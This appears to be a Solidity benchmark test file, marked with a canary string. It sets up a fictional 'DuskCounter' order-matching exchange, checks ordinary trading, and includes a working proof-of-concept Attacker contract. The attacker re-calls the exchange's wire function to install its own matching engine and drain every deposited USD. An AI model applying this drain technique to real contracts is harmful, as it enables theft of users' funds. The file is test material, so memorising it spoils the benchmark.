// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import "./DuskCounter.sol";

// assay-canary-47d216c3-63b4-4aa3-a9e5-1f041c86b227

interface Vm {
    function roll(uint256 number) external;
    function prank(address sender) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ADA = address(0xADA);
    address internal constant BRAM = address(0xB4A3);
    address internal constant HOUSE = address(0x40);

    Token internal usd;
    Token internal ore;
    DuskCounter internal counter;
    Attacker internal thief;

    function setUp() public {
        vm.roll(1000);
        usd = new Token();
        ore = new Token();
        counter = new DuskCounter();
        counter.wire(address(new MatchEngine()), HOUSE);
        _deposit(usd, ADA, 209_000e6);
        _deposit(ore, BRAM, 50e18);
        thief = new Attacker(counter, usd);
    }

    function _deposit(Token t, address who, uint256 amount) internal {
        t.mint(who, amount);
        vm.prank(who);
        t.approve(address(counter), amount);
        vm.prank(who);
        counter.deposit(address(t), amount);
    }

    function test_Regular() public {
        Order memory a = Order(ADA, address(usd), address(ore), 100_000e6, 40e18, "a");
        Order memory b = Order(BRAM, address(ore), address(usd), 40e18, 99_000e6, "b");
        vm.prank(ADA);
        bytes32 id = counter.place(a);
        vm.prank(BRAM);
        counter.place(b);
        (bool ok, ) = address(counter).call(abi.encodeCall(DuskCounter.matchOrders, (a, b)));
        require(!ok, "in the same block");
        vm.roll(1001);
        counter.matchOrders(a, b);
        require(counter.placedIn(id) == 0, "done");
        require(counter.holdings(address(ore), ADA) == 39.988e18, "ore");
        require(counter.holdings(address(usd), BRAM) == 99_970e6, "dollars");
        vm.prank(HOUSE);
        counter.withdraw(address(usd), 30e6);
        vm.prank(BRAM);
        counter.withdraw(address(usd), 99_970e6);
        require(usd.balanceOf(BRAM) == 99_970e6, "out");
        vm.prank(BRAM);
        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.withdraw, (address(usd), 1)));
        require(!ok, "more than held");
        vm.prank(BRAM);
        (ok, ) = address(counter).call(abi.encodeCall(DuskCounter.place, (a)));
        require(!ok, "the order of another");
        vm.prank(ADA);
        counter.place(a);
        vm.prank(ADA);
        counter.cancel(a);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 209_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(counter);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Sends everything to the one named as owner.
contract OwnEngine {
    function matchOrders(Order calldata left, Order calldata) external {
        Token t = Token(left.sell);
        t.transfer(left.owner, t.balanceOf(address(this)));
    }
}

/// Wires the counter once more.
contract Attacker {
    DuskCounter internal counter;
    Token internal usd;
    OwnEngine internal own;

    constructor(DuskCounter counter_, Token usd_) {
        counter = counter_;
        usd = usd_;
        own = new OwnEngine();
    }

    function run() external {
        counter.wire(address(own), address(this));
        Order memory o;
        (o.owner, o.sell) = (address(this), address(usd));
        counter.matchOrders(o, o);
    }
}
